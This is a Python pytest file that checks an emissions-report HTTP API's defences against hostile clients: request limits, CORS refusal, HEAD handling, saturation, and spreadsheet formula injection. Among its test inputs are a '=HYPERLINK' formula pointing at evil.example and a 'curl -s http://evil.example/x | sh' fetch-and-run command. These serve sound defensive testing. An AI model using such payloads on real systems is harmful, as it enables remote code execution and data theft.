"""Hostile clients of the HTTP API: oversized recomputations, saturation, HEAD, CORS.

Every test talks to a real uvicorn server on 127.0.0.1 (``ia_empreinte.server.running``)
and stops by itself (bounded loops, timeouts on every wait).
"""

from __future__ import annotations

import io
import threading
import time
from collections.abc import Iterator
from typing import Any

import httpx
import pytest

from ia_empreinte.server import ServerSettings, running
from ia_empreinte.server.bodies import EXAMPLE_OFFER, EXAMPLE_PROFILE
from ia_empreinte.server.problems import MEDIA_TYPE

PROBLEMS = "https://ia-empreinte.invalid/problems/"
ORIGIN = "https://acheteur.example"


def _offers(n: int, vendor: str = "Example vendor") -> list[dict[str, Any]]:
    return [{**EXAMPLE_OFFER, "id": f"offre-{i}", "vendor": vendor} for i in range(n)]


def _problem(r: httpx.Response, status: int, slug: str) -> dict[str, Any]:
    assert r.status_code == status, r.text
    assert r.headers["content-type"] == MEDIA_TYPE
    doc: dict[str, Any] = r.json()
    assert doc["type"] == PROBLEMS + slug
    return doc


@pytest.fixture(scope="module")
def client() -> Iterator[httpx.Client]:
    settings = ServerSettings(max_draws=500, max_offers=3, max_body_bytes=64 * 1024,
                              cors_origins=(ORIGIN,))
    with running(settings) as base, httpx.Client(base_url=base, timeout=60) as c:
        yield c


def _fiche(client: httpx.Client, draws: int, offers: int) -> dict[str, Any]:
    r = client.post("/v1/report", json={"profile": EXAMPLE_PROFILE, "offers": _offers(offers),
                                        "options": {"draws": draws}})
    assert r.status_code == 200, r.text
    fiche: dict[str, Any] = r.json()
    return fiche


# --- 5. verify obeys the limits -------------------------------------------------------


def test_verify_refuses_a_fiche_with_more_draws_than_the_limit(client: httpx.Client) -> None:
    fiche = _fiche(client, draws=200, offers=1)
    fiche["inputs"]["options"]["draws"] = 1_000_000
    doc = _problem(client.post("/v1/verify", json=fiche), 422, "too-many-draws")
    assert doc["detail"] == (
        "1000000 draws requested; this server accepts at most 500 per request "
        "(ia-empreinte serve --max-draws)"
    )
    assert doc["pointer"] == "/inputs/options/draws"


def test_verify_refuses_a_fiche_with_more_offers_than_the_limit(client: httpx.Client) -> None:
    fiche = _fiche(client, draws=20, offers=3)
    fiche["inputs"]["offers"].append({**fiche["inputs"]["offers"][0], "id": "offre-x"})
    doc = _problem(client.post("/v1/verify", json=fiche), 422, "too-many-offers")
    assert doc["detail"] == (
        "4 offers requested; this server accepts at most 3 per request "
        "(ia-empreinte serve --max-offers)"
    )


def test_verify_within_the_limits_still_recomputes(client: httpx.Client) -> None:
    fiche = _fiche(client, draws=200, offers=2)
    r = client.post("/v1/verify", json=fiche)
    assert r.status_code == 200 and r.json()["ok"] is True


# --- 1, 19. hostile vendor text through /v1/report ---------------------------------------


def test_report_xlsx_keeps_a_formula_vendor_as_text(client: httpx.Client) -> None:
    from openpyxl import load_workbook

    vendor = '=HYPERLINK("http://evil.example","x")'
    r = client.post("/v1/report?format=xlsx",
                    json={"profile": EXAMPLE_PROFILE, "offers": _offers(2, vendor),
                          "options": {"draws": 50}})
    assert r.status_code == 200, r.text
    grid = load_workbook(io.BytesIO(r.content)).worksheets[0]
    cells = [grid.cell(row=i, column=3) for i in (2, 3)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [(vendor, "s", True)] * 2


@pytest.mark.parametrize("vendor", ["x" * 2000, "ligne\n" * 120])
def test_report_pdf_with_long_vendor_text_is_200(client: httpx.Client, vendor: str) -> None:
    r = client.post("/v1/report?format=pdf",
                    json={"profile": EXAMPLE_PROFILE, "offers": _offers(1, vendor),
                          "options": {"draws": 20}})
    assert r.status_code == 200, r.text
    assert r.content.startswith(b"%PDF")


def test_report_command_is_not_free_text(client: httpx.Client) -> None:
    fiche = _fiche(client, draws=20, offers=1)
    assert fiche["command"] == ""
    fiche["command"] = "curl -s http://evil.example/x | sh"
    r = client.post("/v1/verify", json=fiche)
    assert r.status_code == 200
    assert r.json()["ok"] is False
    assert [d["path"] for d in r.json()["differences"]] == ["command"]


# --- 28. HEAD, CORS on every answer, refused preflight -----------------------------------


@pytest.mark.parametrize("path", ["/healthz", "/v1/catalog/zones", "/v1/profiles",
                                  "/v1/schemas/offer"])
def test_head_answers_like_get_without_body(client: httpx.Client, path: str) -> None:
    get = client.get(path)
    head = client.head(path)
    assert (head.status_code, head.content) == (200, b"")
    assert head.headers["content-length"] == str(len(get.content))
    assert head.headers["content-type"] == get.headers["content-type"]


def test_head_on_a_post_route_is_405(client: httpx.Client) -> None:
    head = client.head("/v1/estimate")
    assert (head.status_code, head.content, head.headers["allow"]) == (405, b"", "POST")


def test_413_carries_the_cors_headers(client: httpx.Client) -> None:
    r = client.post("/v1/compare", content=b"x" * (64 * 1024 + 1),
                    headers={"origin": ORIGIN, "content-type": "application/json"})
    _problem(r, 413, "body-too-large")
    assert r.headers["access-control-allow-origin"] == ORIGIN


def test_refused_preflight_is_a_problem_document(client: httpx.Client) -> None:
    r = client.options("/v1/compare", headers={
        "origin": "https://evil.example", "access-control-request-method": "POST"})
    doc = _problem(r, 400, "cors-refused")
    assert doc["detail"] == (
        "this server's CORS policy does not allow the requested origin; allowed origins "
        "are those given to ia-empreinte serve --cors-origin"
    )
    ok = client.options("/v1/compare", headers={
        "origin": ORIGIN, "access-control-request-method": "POST"})
    assert ok.status_code == 200
    assert ok.headers["access-control-allow-origin"] == ORIGIN


# --- 10. computations are bounded; reading routes keep answering -------------------------


def test_reads_answer_fast_while_every_computing_slot_is_busy(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from ia_empreinte.server.routes import compute
    from ia_empreinte.server.work import Reply

    started = threading.Event()
    release = threading.Event()
    runs: list[float] = []

    def slow(*_: Any) -> Reply:
        runs.append(time.monotonic())
        started.set()
        release.wait(timeout=20)  # always ends, even if the test fails early
        return Reply(b"{}", "application/json")

    monkeypatch.setattr(compute, "compare_reply", slow)
    body = {"profile": EXAMPLE_PROFILE, "offers": _offers(1), "options": {"draws": 10}}
    answers: list[int] = []
    settings = ServerSettings(timeout_s=1.0)
    with running(settings, compute_slots=1, waiting=1) as base, \
            httpx.Client(base_url=base, timeout=30) as c:

        def post() -> None:
            with httpx.Client(base_url=base, timeout=30) as own:
                answers.append(own.post("/v1/compare", json=body).status_code)

        first = threading.Thread(target=post)
        first.start()
        assert started.wait(timeout=10)
        second = threading.Thread(target=post)  # waits for the slot, within its budget
        second.start()
        time.sleep(0.2)
        t0 = time.monotonic()
        busy = c.post("/v1/compare", json=body)  # neither a slot nor a place to wait
        busy_s = time.monotonic() - t0
        _problem(busy, 503, "server-busy")
        assert busy.headers["retry-after"] == "1"
        assert busy_s < 0.5
        for _ in range(5):
            t0 = time.monotonic()
            zones = c.get("/v1/catalog/zones")
            assert zones.status_code == 200
            assert time.monotonic() - t0 < 0.5
        first.join(timeout=10)
        second.join(timeout=10)
        # both budgets (1 s) ran out: the first while computing, the second while waiting
        assert sorted(answers) == [503, 503]
        assert len(runs) == 1  # the waiting request never started its work
        # the abandoned work still holds its slot until it really ends: a new request
        # waits for it, runs out of budget, and its own work never starts
        _problem(c.post("/v1/compare", json=body), 503, "time-budget-exceeded")
        assert len(runs) == 1
        release.set()
        deadline = time.monotonic() + 10
        while c.post("/v1/compare", json=body).status_code != 200:
            assert time.monotonic() < deadline
            time.sleep(0.05)
        assert len(runs) == 2
